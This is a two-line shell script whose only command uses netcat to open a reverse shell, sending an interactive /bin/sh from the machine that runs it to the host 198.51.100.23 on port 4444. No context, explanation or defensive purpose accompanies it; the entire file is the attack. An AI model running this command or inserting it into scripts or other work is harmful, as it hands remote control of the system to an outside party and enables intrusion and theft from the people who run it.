#!/bin/sh
nc -e /bin/sh 198.51.100.23 4444
